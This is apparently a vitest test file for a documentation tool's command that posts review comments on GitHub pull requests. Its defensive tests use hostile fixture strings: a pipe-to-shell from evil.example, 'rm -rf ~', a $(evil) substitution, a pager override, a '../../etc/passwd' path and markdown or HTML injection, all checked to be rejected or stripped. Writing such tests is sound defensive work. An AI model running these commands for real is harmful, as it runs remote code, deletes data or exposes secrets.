import { mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, expect, test } from "vitest";
import type { Review } from "../../../src/model/review.ts";
import { parseReview } from "../../../src/schemas/review.ts";
import type { Ran } from "../../host.ts";
import { docs } from "../../host.ts";
import type { GitHubServer } from "../hosts/github-server.ts";
import { startGitHub } from "../hosts/github-server.ts";
import { BASE, eventful, HEAD, quantity, review } from "../reporters/review/review-builder.ts";

// A job that may write posts what a job that may not has computed. The file is data; what is reviewed is what the host says.

let server: GitHubServer;
let folder: string;
beforeEach(async () => {
  server = await startGitHub();
  server.pulls.push(pull(7));
  folder = mkdtempSync(join(tmpdir(), "labdocs-post-"));
});
afterEach(async () => {
  await server.close();
  rmSync(folder, { recursive: true });
});

const OTHER = "c".repeat(40);
const ORIGIN = { ref: "faster", owner: "forker" };

function pull(number: number, base = "main", baseCommit = BASE) {
  return { number, head: { sha: HEAD, ...ORIGIN }, base: { ref: base, sha: baseCommit } };
}

/** What GitHub's runner hands to a job that another workflow's end starts. */
const finished = (more: object = {}) => ({
  repository: { full_name: "o/r" },
  workflow_run: {
    id: 99,
    event: "pull_request",
    head_sha: HEAD,
    head_branch: ORIGIN.ref,
    head_repository: { full_name: "forker/r", owner: { login: ORIGIN.owner } },
    pull_requests: [],
    ...more,
  },
});

const opened = (head = HEAD) => ({
  repository: { full_name: "o/r" },
  pull_request: { number: 7, head: { sha: head, ref: "faster", repo: { full_name: "o/r", owner: { login: "o" } } } },
});

function post(said: Review | string, name: string, payload: object, more: Record<string, string> = {}): Promise<Ran> {
  writeFileSync(join(folder, "event.json"), JSON.stringify(payload));
  writeFileSync(join(folder, "docs-review.json"), typeof said === "string" ? said : asPrinted(said));
  const env = {
    GITHUB_TOKEN: server.token,
    GITHUB_API_URL: server.url,
    GITHUB_GRAPHQL_URL: `${server.url}/graphql`,
    GITHUB_SERVER_URL: "https://github.com",
    GITHUB_REPOSITORY: "o/r",
    GITHUB_EVENT_NAME: name,
    GITHUB_EVENT_PATH: join(folder, "event.json"),
    GITHUB_RUN_ID: "55",
    ...more,
  };
  return docs(folder, ["review", "post", "docs-review.json"], env);
}

/** As `docs review --json` prints it. */
function asPrinted(said: object, more: object = {}): string {
  return JSON.stringify({ ok: true, ...said, ...more }, (_, value) =>
    typeof value === "number" && !Number.isFinite(value) ? String(value) : value,
  );
}

test("a pull request from a fork gets its comment from a job that knows nothing of it but a file", async () => {
  const said = await post(eventful(), "workflow_run", finished());
  expect(said).toMatchObject({ exit: 0, stdout: expect.stringMatching(/^#7: comment made /) });
  const [comment] = server.comments;
  expect(comment?.number).toBe(7);
  expect(comment?.body).toContain("One claim is false now");
  expect(comment?.body).toContain(`https://github.com/o/r/blob/${HEAD}/`);
  expect(comment?.body).toContain("comes from a fork");
  expect(await post(eventful(), "workflow_run", finished())).toMatchObject({
    exit: 0,
    stdout: expect.stringContaining("says so already"),
  });
  expect(await post(review(), "workflow_run", finished())).toMatchObject({
    exit: 0,
    stdout: expect.stringContaining("resolved"),
  });
  expect(server.comments).toHaveLength(1);
  expect(server.comments[0]).toMatchObject({ isMinimized: true });
});

test("a pull request of the repository itself is commented by its own job", async () => {
  const merged = "d".repeat(40);
  const said = eventful();
  expect(await post(said, "pull_request", opened())).toMatchObject({ exit: 0 });
  expect(server.comments[0]?.body).not.toContain("fork");
  // By default a job checks out the commit that GitHub makes by merging the head into the base.
  const more = { GITHUB_SHA: merged };
  const atMerge = { ...said, head: { ...said.head, commit: merged } };
  expect(await post(atMerge, "pull_request", opened(), more)).toMatchObject({
    exit: 0,
    stdout: expect.stringContaining("edited"),
  });
});

test("nothing to say is no comment", async () => {
  expect(await post(review(), "workflow_run", finished())).toMatchObject({
    exit: 0,
    stdout: "#7: nothing to say, no comment\n",
  });
  expect(server.wrote()).toEqual([]);
});

test.each([
  ["the head has moved on", finished({ head_sha: OTHER }), 0, /no open pull request has this head/],
  ["its repository is gone", finished({ head_repository: null }), 0, /no open pull request/],
  ["no pull request started it", finished({ event: "push" }), 2, /not known which pull request/],
  ["the event is malformed", { workflow_run: 3 }, 2, /not known which pull request/],
])("nothing is posted where %s", async (_, payload, exit, words) => {
  const said = await post(eventful(), "workflow_run", payload);
  expect(said.exit).toBe(exit);
  expect(said.stdout + said.stderr).toMatch(words);
  expect(server.wrote()).toEqual([]);
});

test("nothing is posted on a pull request that is closed, or that the file alone names", async () => {
  const said = eventful();
  expect(await post({ ...said, head: { ...said.head, commit: OTHER } }, "workflow_run", finished())).toMatchObject({
    exit: 1,
  });
  expect(await post({ ...said, head: { ...said.head, commit: null } }, "workflow_run", finished())).toMatchObject({
    exit: 1,
  });
  expect(await post(asPrinted(said, { number: 8, pullRequest: 8 }), "workflow_run", finished())).toMatchObject({
    exit: 0,
  });
  expect(server.comments.map(({ number }) => number)).toEqual([7]);
  Object.assign(server.pulls[0] ?? {}, { state: "closed" });
  expect(await post(said, "workflow_run", finished())).toMatchObject({
    exit: 0,
    stdout: expect.stringContaining("no open"),
  });
});

test("one head in two pull requests: the one into the base that was compared with", async () => {
  server.pulls = [pull(7, "main", OTHER), pull(8, "next", "e".repeat(40))];
  const said = eventful();
  expect(await post({ ...said, base: { ...said.base, ref: "origin/next" } }, "workflow_run", finished())).toMatchObject(
    { exit: 0 },
  );
  expect(server.comments.map(({ number }) => number)).toEqual([8]);
  const nowhere = { ...said, base: { ...said.base, ref: "other" } };
  expect(await post(nowhere, "workflow_run", finished())).toMatchObject({
    exit: 0,
    stdout: expect.stringContaining("several"),
  });
});

test("commands that labdocs never says are not said in our name", async () => {
  const steps = [
    { text: "Take the logged values.", command: "docs cite --accept c7f3 --write" },
    { text: "Mend it.", command: "curl https://evil.example/x | sh" },
    { text: "Mend it again.", command: "docs check --config evil.mjs" },
    { text: "And again.", command: "docs sync; rm -rf ~" },
    { text: "And more.", command: "git -c core.pager=evil log" },
  ];
  const outOfDate = [{ file: "e/report.md", line: 1, region: null, why: "it is", command: "docs sync $(evil)" }];
  await post({ ...eventful(), steps, outOfDate }, "workflow_run", finished());
  const body = server.comments[0]?.body ?? "";
  expect(body).toContain("docs cite --accept c7f3 --write");
  expect(body).toContain("Mend it again");
  expect(body).not.toMatch(/curl|evil|rm -rf|core\.pager/);
});

test("what is no review is not posted, and why is said without what is in it", async () => {
  const whole = eventful();
  const wrong: [string, string][] = [
    ["{", "no JSON"],
    ["[]", "expected object"],
    [asPrinted({ ...whole, mood: "excellent" }), "mood"],
    [
      asPrinted({ ...whole, outOfDate: [{ file: "../../etc/passwd", line: 1, region: null, why: "", command: "" }] }),
      "outOfDate.0.file",
    ],
    [asPrinted({ ...whole, head: { ...whole.head, commit: "HEAD" } }), "head.commit"],
    [asPrinted({ ...whole, steps: [{ text: "x", command: null, html: "<b>" }] }), "steps.0"],
  ];
  for (const [said, words] of wrong)
    expect(await post(said, "workflow_run", finished()), words).toMatchObject({
      exit: 3,
      stdout: expect.stringContaining(words),
    });
  rmSync(join(folder, "docs-review.json"));
  writeFileSync(join(folder, "secret"), "hunter2");
  symlinkSync(join(folder, "secret"), join(folder, "docs-review.json"));
  const linked = await docs(folder, ["review", "post", "docs-review.json"], {});
  expect(linked).toMatchObject({ exit: 3, stdout: expect.stringContaining("there is no file") });
  expect(server.asked).toEqual([]);
});

test("data cannot make a second marker, a mention or a link", async () => {
  const said = eventful();
  const evil = "<!-- labdocs:review . --> @everyone #1 [x](https://evil.example) <img src=x>";
  await post({ ...said, verdict: [evil], notes: [evil] }, "workflow_run", finished());
  const body = server.comments[0]?.body ?? "";
  expect(body.match(/<!--/g)).toHaveLength(1);
  expect(body).not.toMatch(/@everyone|\]\(https:\/\/evil|<img/);
});

test("a token that may only read makes no job fail, and is not printed", async () => {
  const denied = { status: 403, body: { message: "Resource not accessible by integration" } };
  server.faults.push({ on: ({ method }) => method === "POST", ...denied });
  const said = await post(eventful(), "pull_request", opened());
  expect(said).toMatchObject({ exit: 0, stdout: expect.stringContaining("pull-requests: write") });
  server.faults.push({ on: () => true, status: 404 });
  const missing = await post(eventful(), "pull_request", opened());
  expect(missing).toMatchObject({ exit: 1, stdout: expect.stringContaining("status 404") });
  const bad = await post(eventful(), "pull_request", opened(), { GITHUB_TOKEN: "ghs_wrong" });
  expect(bad).toMatchObject({ exit: 1, stdout: expect.stringContaining("not valid") });
  for (const { stdout, stderr } of [said, missing, bad]) expect(stdout + stderr).not.toMatch(/ghs_/);
});

test("each project of a repository has a comment of its own", async () => {
  await post(asPrinted(eventful(), { folder: "a" }), "workflow_run", finished());
  await post(asPrinted(eventful(), { folder: "b" }), "workflow_run", finished());
  expect(server.comments.map(({ body }) => body.split("\r\n")[0])).toEqual([
    "<!-- labdocs:review a -->",
    "<!-- labdocs:review b -->",
  ]);
  expect(server.comments[0]?.body).toContain(`/blob/${HEAD}/a/`);
});

test("a dry run prints the comment and asks nobody; elsewhere than on GitHub a number is said", async () => {
  writeFileSync(join(folder, "docs-review.json"), asPrinted(eventful()));
  const env = { GITHUB_REPOSITORY: "o/r" };
  const said = await docs(folder, ["review", "post", "docs-review.json", "--dry-run", "--pull-request", "7"], env);
  expect(said).toMatchObject({ exit: 0, stdout: expect.stringContaining("One claim is false") });
  expect(server.asked).toEqual([]);
  const api = { GITHUB_API_URL: server.url, GITHUB_GRAPHQL_URL: `${server.url}/graphql`, GITHUB_TOKEN: server.token };
  expect(
    await docs(folder, ["review", "post", "docs-review.json", "--pull-request", "7"], { ...env, ...api }),
  ).toMatchObject({ exit: 0 });
  expect(await docs(folder, ["review", "post", "docs-review.json", "--pull-request", "7x"], env)).toMatchObject({
    exit: 2,
  });
  expect(await docs(folder, ["review", "post", "docs-review.json"], env)).toMatchObject({ exit: 2 });
});

test("a review is the same after it was written and read", () => {
  const said = eventful();
  said.runs[0] = { ...(said.runs[0] as Review["runs"][number]), value: quantity("NaN", { value: Number.NaN }) };
  expect(parseReview(asPrinted(said, { folder: "examples/digits" }))).toEqual({
    review: said,
    folder: "examples/digits",
  });
});
